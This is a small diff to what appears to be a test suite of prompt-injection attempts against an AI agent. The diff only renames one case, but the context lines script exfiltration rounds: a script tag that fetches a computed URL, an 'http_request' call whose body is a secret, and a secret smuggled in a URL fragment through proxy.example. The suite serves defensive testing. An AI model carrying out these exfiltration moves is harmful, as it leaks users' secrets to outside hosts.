@@ -234,7 +234,7 @@ const calls: Readonly<Record<string, InjectionAttempt>> = {
     rounds: [call('craft', { title: 'x', kind: 'html', content: `<script>fetch("${computed}")</script>` })],
   },
   'a tool that does not exist': { rounds: [call('http_request', { url: computed, body: secret })] },
-  'an address beside a harmless one': { rounds: [fetches(typedAddress, computed)] },
+  'an address next to a harmless one': { rounds: [fetches(typedAddress, computed)] },
   'a fragment through a proxy': {
     rounds: [fetches(`${typedAddress}#${secret}`)],
     web: { fetchProxyUrl: 'https://proxy.example/?url=' },
